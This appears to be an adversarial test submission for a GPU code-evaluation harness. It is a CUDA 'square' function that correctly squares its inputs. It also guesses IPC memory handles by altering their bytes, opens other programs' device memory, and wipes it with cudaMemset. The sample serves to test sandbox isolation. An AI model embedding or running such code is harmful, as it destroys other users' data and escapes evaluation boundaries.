// Attack: asks the device for other programs' memory, by handles of all kinds
// Verdict: any
// Stage: run
#include "square_port.hpp"

#include <cstring>

void square(const std::int64_t* input, std::int64_t* output, std::size_t count) {
    void* block = nullptr;
    cudaMalloc(&block, 1 << 20);
    cudaIpcMemHandle_t handle{};
    cudaIpcGetMemHandle(&handle, block);
    for (int byte = 0; byte < 64; ++byte)
        for (const int value : {0, 1, 127, 255}) {
            cudaIpcMemHandle_t guess = handle;
            guess.reserved[byte] = static_cast<char>(value);
            void* other = nullptr;
            if (cudaIpcOpenMemHandle(&other, guess, cudaIpcMemLazyEnablePeerAccess) == cudaSuccess)
                cudaMemset(other, 0, 1 << 20);
        }
    for (std::size_t i = 0; i < count; ++i) output[i] = input[i] * input[i];
}
